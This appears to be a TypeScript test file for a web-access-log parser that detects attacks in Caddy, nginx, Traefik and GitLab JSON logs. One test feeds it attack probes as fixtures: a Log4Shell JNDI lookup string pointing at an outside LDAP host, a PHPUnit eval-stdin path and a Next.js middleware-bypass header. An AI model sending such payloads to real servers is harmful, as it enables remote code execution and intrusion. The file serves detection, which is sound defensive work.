// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attackers write such texts
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { intelWith } from '../../../test/intel-with.ts'
import { parseJsonAccess, webJson } from './web-json.ts'

const { patches } = intelWith()
const drafts = (...lines: object[]) => {
  const reader = webJson.open({ path: '/x', user: '', patches })
  return lines.flatMap(line => [...reader.line(JSON.stringify(line))])
}

const caddy = (uri: string, method = 'GET', agent = 'curl/8.5.0') => ({
  level: 'info',
  ts: 1795279693.5241024,
  logger: 'http.log.access.log0',
  msg: 'handled request',
  request: {
    remote_ip: '203.0.113.9',
    remote_port: '41342',
    client_ip: '203.0.113.9',
    proto: 'HTTP/2.0',
    method,
    host: 'a',
    uri,
    headers: { 'User-Agent': [agent], 'X-Api-Version': ['1'] },
  },
  status: 200,
  size: 10900,
})

test('Caddy, nginx, Traefik, GitLab', () => {
  const of = (line: object) => {
    const one = parseJsonAccess(JSON.stringify(line))
    return [one?.address, one?.method, one?.target, one?.status, one?.agent, one?.time?.ms]
  }
  const ms = Date.UTC(2026, 10, 21, 16, 48, 13)
  assert.deepEqual(of(caddy('/a?b=1')), ['203.0.113.9', 'GET', '/a?b=1', 200, 'curl/8.5.0', ms + 524])
  assert.deepEqual(
    of({
      time_local: '22/Nov/2026:00:48:13 +0800',
      remote_addr: '203.0.113.9',
      request: 'POST /x HTTP/1.1',
      status: '404',
      http_user_agent: 'x',
    }),
    ['203.0.113.9', 'POST', '/x', 404, 'x', ms],
  )
  assert.deepEqual(
    of({
      ClientAddr: '203.0.113.9:1',
      ClientHost: '203.0.113.9',
      DownstreamStatus: 200,
      RequestMethod: 'GET',
      RequestPath: '/',
      'request_User-Agent': 'x',
      StartUTC: '2026-11-21T16:48:13Z',
    }),
    ['203.0.113.9', 'GET', '/', 200, 'x', ms],
  )
  assert.deepEqual(
    of({
      method: 'POST',
      path: '/uploads/user',
      controller: 'UploadsController',
      status: 422,
      time: '2026-11-21T16:48:13.000Z',
      remote_ip: '203.0.113.9',
      ua: 'x',
    }),
    ['203.0.113.9', 'POST', '/uploads/user', 422, 'x', ms],
  )
})

test('attacks, also in heads that only such logs keep', () => {
  const bad = caddy('/')
  assert.deepEqual(
    drafts(
      caddy('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'POST'),
      { ...bad, request: { ...bad.request, headers: { 'X-Middleware-Subrequest': ['middleware:middleware:middleware'] } } },
      caddy('/', 'GET', '${jndi:ldap://198.51.100.6/a}'),
    ).map(({ attack, address }) => `${attack} ${address}`),
    ['phpunit-eval-stdin 203.0.113.9', 'log4shell 203.0.113.9'],
  )
})

test('near misses: other JSON, ordinary requests', () => {
  assert.deepEqual(
    drafts(caddy('/'), { level: 'info', msg: 'x' }, { method: 'eth_getBlock', path: '/', status: 200 }, { method: 'POST', status: 200 }),
    [],
  )
  assert.equal(drafts({ method: 'POST', path: '/rpc', status: 200, remote_ip: '203.0.113.9' })[0]?.verb, 'request')
  assert.ok(webJson.recognise(`${JSON.stringify(caddy('/'))}\n`, 'x') > 0.8)
})

test('property: any JSON, no throw', () => {
  fc.assert(fc.property(fc.json(), text => void parseJsonAccess(text)))
  fc.assert(
    fc.property(
      fc.jsonValue(),
      fc.jsonValue(),
      (request, value) => void drafts({ request, status: 200, method: value, path: '/', headers: value }),
    ),
    // What cannot be turned into a text: its own members say how.
    { examples: [['', { a: { toString: '' } }]] },
  )
})
